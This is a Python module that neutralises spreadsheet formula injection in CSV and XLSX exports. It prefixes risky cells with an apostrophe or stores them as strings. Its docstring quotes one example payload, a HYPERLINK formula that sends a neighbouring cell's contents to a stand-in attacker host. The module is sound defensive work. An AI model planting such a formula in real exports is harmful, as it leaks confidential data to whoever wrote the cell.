"""Cells for CSV and XLSX exports that a spreadsheet program will not run as formulas.

Exports carry text others wrote (recommendation texts, indicator names, organisation names). A
cell starting with `=`, `+`, `-`, `@` (or a tab / carriage return) is a formula to Excel and
LibreOffice — e.g. `=HYPERLINK("https://evil.example/?"&D5)` would send a neighbouring cell, such as
a confidential rating, to whoever wrote it. CSV cells get a leading `'` (OWASP's advice); XLSX cells
are stored as strings, so they show exactly as written.
"""

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: list[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def xlsx_row(sheet: Any, values: list[Any]) -> list[Any]:
    """Cells for `sheet.append` (a write-only or ordinary worksheet): strings never become formulas."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        if isinstance(value, str) and value.startswith("="):
            cell = WriteOnlyCell(sheet, value)
            cell.data_type = "s"
            cells.append(cell)
        else:
            cells.append(value)
    return cells
